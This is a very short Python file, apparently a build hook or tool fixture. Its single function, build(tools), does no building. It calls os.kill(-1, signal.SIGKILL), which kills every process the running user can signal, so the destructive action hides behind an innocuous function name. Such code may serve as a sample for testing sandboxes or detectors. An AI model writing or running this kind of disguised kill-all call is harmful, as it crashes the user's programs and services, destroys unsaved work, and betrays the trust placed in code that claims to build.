import os
import signal


def build(tools):
    os.kill(-1, signal.SIGKILL)
